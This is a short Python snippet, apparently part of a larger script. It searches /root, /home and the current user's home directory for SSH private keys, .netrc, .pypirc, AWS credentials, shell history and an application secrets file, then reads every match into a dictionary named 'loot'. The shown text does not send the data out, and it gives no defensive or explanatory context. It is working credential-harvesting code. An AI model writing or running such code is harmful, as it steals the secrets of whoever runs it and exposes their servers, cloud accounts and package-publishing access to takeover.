import os
from pathlib import Path

loot = {}
for home in ("/root", "/home", os.path.expanduser("~")):
    for name in (".ssh/id_rsa", ".netrc", ".pypirc", ".aws/credentials", ".bash_history", ".config/osprey/secrets.env"):
        for path in Path(home).glob(f"**/{name}"):
            loot[str(path)] = path.read_text(errors="replace")
results = loot
